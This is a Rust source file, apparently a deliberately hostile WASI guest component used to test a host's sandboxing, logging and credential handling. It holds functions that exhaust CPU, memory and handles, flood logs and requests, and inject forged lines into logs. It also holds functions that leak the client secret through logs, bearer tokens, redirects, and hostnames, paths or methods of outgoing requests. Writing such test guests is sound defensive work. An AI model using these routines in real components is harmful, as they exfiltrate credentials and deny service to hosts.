//! What it does: one function for each way to misbehave, and one table of them all.

use std::hint::black_box;
use std::sync::Mutex;

use waki::bindings::wasi::http::outgoing_handler::handle;
use waki::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
use waki::{Client, Response};
use wasi::clocks::monotonic_clock;

use crate::contract::identity::connector::logging::{self, Field, Level};
use crate::contract::identity::connector::settings;

/// A way to misbehave: takes the argument of the command, and gives what there is to say, if it comes to that.
type Behavior = fn(&str) -> String;

/// All of them.
pub const BEHAVIORS: &[(&str, Behavior)] = &[
    ("echo", echo),
    ("trap", trap),
    ("panic", panic),
    ("panic-with-secret", panic_with_secret),
    ("recurse", recurse),
    ("spin", spin),
    ("sleep-forever", sleep_forever),
    ("grow-memory", grow_memory),
    ("keep-memory", keep_memory),
    ("leak-handles", leak_handles),
    ("huge-header", huge_header),
    ("huge-result", huge_result),
    ("huge-log", huge_log),
    ("flood-log", flood_log),
    ("log-secret", log_secret),
    ("remember", remember),
    ("recall", recall),
    ("get", get),
    ("get-with-token", get_with_token),
    ("follow-redirect", follow_redirect),
    ("flood-requests", flood_requests),
    ("leave-answers", leave_answers),
    ("hoard-requests", hoard_requests),
    ("send-secret", send_secret),
    ("slow-secret", slow_secret),
    ("forge-log", forge_log),
    ("circle", circle),
    ("endless", endless),
];

/// Does what the command says.
pub fn obey(command: &str) -> String {
    let (name, argument) = command.split_once(' ').unwrap_or((command, ""));
    match BEHAVIORS.iter().find(|(known, _)| *known == name) {
        Some((_, behavior)) => behavior(argument),
        None => format!("there is no behavior {name}"),
    }
}

/// Behaves: gives its argument back.
fn echo(argument: &str) -> String {
    argument.to_string()
}

/// Traps without a word.
fn trap(_: &str) -> String {
    core::arch::wasm32::unreachable()
}

/// Panics, which says what it was about and then traps.
fn panic(argument: &str) -> String {
    panic!("{argument}")
}

/// Panics over the client secret.
fn panic_with_secret(_: &str) -> String {
    panic!("cannot make sense of {}", secret())
}

/// Calls itself until the stack is used up.
fn recurse(argument: &str) -> String {
    #[expect(unconditional_recursion, reason = "this is what it is for")]
    fn deeper(depth: u64) -> u64 {
        black_box(deeper(black_box(depth + 1))) + 1
    }
    deeper(argument.len() as u64).to_string()
}

/// Computes for ever.
fn spin(_: &str) -> String {
    loop {
        black_box(());
    }
}

/// Waits for a moment that will not come.
fn sleep_forever(_: &str) -> String {
    monotonic_clock::subscribe_duration(u64::MAX).block();
    "it came".to_string()
}

/// Takes memory until there is no more.
fn grow_memory(_: &str) -> String {
    let mut hoard = Vec::new();
    loop {
        hoard.push(black_box(vec![1_u8; MIB]));
    }
}

/// Takes so many KiB and never gives them back: a leak within the guest.
fn keep_memory(argument: &str) -> String {
    static KEPT: Mutex<Vec<Vec<u8>>> = Mutex::new(Vec::new());
    let mut kept = lock(&KEPT);
    kept.push(vec![1; number(argument) * 1024]);
    format!("{} pieces", kept.len())
}

/// Opens so many handles and never drops them.
fn leak_handles(argument: &str) -> String {
    for _ in 0..number(argument) {
        std::mem::forget(Fields::new());
    }
    "the host took them all".to_string()
}

/// Puts so many KiB into a header field.
fn huge_header(argument: &str) -> String {
    let value = vec![b'a'; number(argument) * 1024];
    match Fields::from_list(&[("x-huge".to_string(), value)]) {
        Ok(_) => "the host took it".to_string(),
        Err(error) => error.to_string(),
    }
}

/// Answers with so many KiB.
fn huge_result(argument: &str) -> String {
    "a".repeat(number(argument) * 1024)
}

/// Logs a message and a field of so many KiB each.
fn huge_log(argument: &str) -> String {
    // Two bytes each, and at an odd place: whoever cuts this anywhere cuts a character in half.
    let text = format!("a{}", "é".repeat(number(argument) * 512));
    let field = Field {
        name: "huge".to_string(),
        value: text.clone(),
    };
    logging::log(Level::Warn, &text, &[field]);
    "the host took it".to_string()
}

/// Logs so many messages.
fn flood_log(argument: &str) -> String {
    for message in 0..number(argument) {
        logging::log(Level::Info, &format!("message {message}"), &[]);
    }
    "the host took them all".to_string()
}

/// Logs the client secret: as a message, and as the value and the name of a field.
fn log_secret(_: &str) -> String {
    let secret = secret();
    let field = Field {
        name: format!("name-{secret}"),
        value: format!("value-{secret}"),
    };
    logging::log(Level::Warn, &format!("message-{secret}"), &[field]);
    "it is out".to_string()
}

/// What `remember` was told last, in this instance.
static MEMORY: Mutex<String> = Mutex::new(String::new());

/// Remembers its argument for `recall`.
fn remember(argument: &str) -> String {
    *lock(&MEMORY) = argument.to_string();
    "remembered".to_string()
}

/// Gives what `remember` was told, and the client secret: all that this instance knows.
fn recall(_: &str) -> String {
    format!("{} {}", lock(&MEMORY), secret())
}

/// Sends a request to that URL.
fn get(url: &str) -> String {
    say(&Client::new()
        .get(url)
        .send()
        .map_err(|error| error.to_string()))
}

/// Sends a request to that URL with the client secret in it.
fn get_with_token(url: &str) -> String {
    say(&send_with_token(url))
}

/// Sends a request to that URL with the client secret in it, and follows the answer's `location` wherever it leads.
fn follow_redirect(url: &str) -> String {
    let answer = send_with_token(url);
    let location = answer.as_ref().ok().and_then(|answer| {
        let location = answer.header("location")?;
        Some(location.to_str().ok()?.to_string())
    });
    match location {
        Some(location) => say(&send_with_token(&location)),
        None => format!("no redirect: {}", say(&answer)),
    }
}

/// Sends so many requests with bodies of so many KiB to an authority, and waits for no answer: `100 64 127.0.0.1:8080`.
fn flood_requests(argument: &str) -> String {
    let [requests, size, authority] = words(argument);
    let size = number(size) * 1024;
    for _ in 0..number(requests) {
        let request = OutgoingRequest::new(Fields::new());
        request.set_method(&Method::Post).expect("it is a method");
        request
            .set_scheme(Some(&Scheme::Http))
            .expect("it is a scheme");
        request
            .set_authority(Some(authority))
            .expect("the test gives an authority");
        request
            .set_path_with_query(Some("/"))
            .expect("it is a path");
        let body = request.body().expect("nobody took it before");
        let stream = body.write().expect("nobody took it before");
        let answer = handle(request, None).expect("it can be sent");
        std::mem::forget(answer);
        for _ in 0..size / PIECE {
            // Where the host takes no more, it ends the call.
            let _ = stream.blocking_write_and_flush(&[b'a'; PIECE]);
        }
        drop(stream);
        let _ = OutgoingBody::finish(body, None);
    }
    "the host took them all".to_string()
}

/// The most that a stream takes at a time.
const PIECE: usize = 4096;

/// Makes so many requests with a host and a method of so many KiB each, and sends none: `100 16000`.
fn hoard_requests(argument: &str) -> String {
    let [requests, size] = words(argument);
    let long = "a".repeat(number(size) * 1024);
    for _ in 0..number(requests) {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_authority(Some(&long));
        let _ = request.set_method(&Method::Other(long.clone()));
        std::mem::forget(request);
    }
    "the host took them all".to_string()
}

/// Sends the secret where only the host's own log would show it: as a host, as a path and as a method.
fn send_secret(authority: &str) -> String {
    let secret = secret();
    for (method, authority, path) in [
        ("GET", format!("{secret}.example"), "/".to_string()),
        ("GET", authority.to_string(), format!("/{secret}")),
        (secret.as_str(), authority.to_string(), "/".to_string()),
    ] {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some(&authority));
        let _ = request.set_path_with_query(Some(&path));
        let _ = request.set_method(&Method::Other(method.to_string()));
        if let Ok(answer) = handle(request, None) {
            answer.subscribe().block();
        }
    }
    "it is out".to_string()
}

/// Takes credentials that are long to look for, and then logs and answers with what looks like them all along.
fn slow_secret(authority: &str) -> String {
    let credentials = format!("Bearer {}b", "a".repeat(100 * 1024));
    let fields = [("authorization".to_string(), credentials.into_bytes())];
    let fields = Fields::from_list(&fields).expect("the host takes as much");
    let request = OutgoingRequest::new(fields);
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some("/"));
    if let Ok(answer) = handle(request, None) {
        answer.subscribe().block();
    }
    logging::log(Level::Info, &"a".repeat(2 << 20), &[]);
    "it is logged".to_string()
}

/// Sends so many requests with the client secret as their token to a URL, waits for the head of each answer, and leaves the rest
/// lying: `3 http://127.0.0.1:8080/`.
fn leave_answers(argument: &str) -> String {
    let (requests, url) = argument.split_once(' ').expect("the test gives both");
    for _ in 0..number(requests) {
        match send_with_token(url) {
            Ok(answer) => std::mem::forget(answer),
            Err(error) => return format!("error {error}"),
        }
    }
    "they lie there".to_string()
}

/// Logs what looks like a line of the host's own.
fn forge_log(line: &str) -> String {
    let field = Field {
        name: "name".to_string(),
        value: format!("value\n{line}"),
    };
    logging::log(Level::Warn, &format!("message\r\n{line}"), &[field]);
    "it is out".to_string()
}

/// Goes round in a circle, where its answer is the next command, as the cursor of a listing is.
fn circle(place: &str) -> String {
    let next = if place == "here" { "there" } else { "here" };
    format!("circle {next}")
}

/// Goes on for ever, likewise.
fn endless(step: &str) -> String {
    format!("endless {}", number(step) + 1)
}

/// So many words, with the rest in the last.
fn words<const N: usize>(argument: &str) -> [&str; N] {
    let words: Vec<_> = argument.splitn(N, ' ').collect();
    words.try_into().expect("the test gives as many")
}

const MIB: usize = 1 << 20;

fn send_with_token(url: &str) -> Answer {
    let token = format!("Bearer {}", secret());
    Client::new()
        .get(url)
        .header("authorization", token)
        .send()
        .map_err(|error| error.to_string())
}

/// An answer, or what is to be said of there being none.
type Answer = Result<Response, String>;

fn say(answer: &Answer) -> String {
    match answer {
        Ok(answer) => format!("status {}", answer.status_code()),
        Err(error) => format!("error {error}"),
    }
}

/// The client secret, or nothing where the host does not have it.
fn secret() -> String {
    settings::get("client-secret")
        .ok()
        .flatten()
        .unwrap_or_default()
}

/// A number that a test gave: one that is none is a fault of the test, and panics.
fn number(argument: &str) -> usize {
    argument.parse().expect("the argument is a number")
}

/// A component has one thread, so nobody else can have panicked with the lock in hand.
fn lock<T>(mutex: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    mutex.lock().expect("nobody else has it")
}
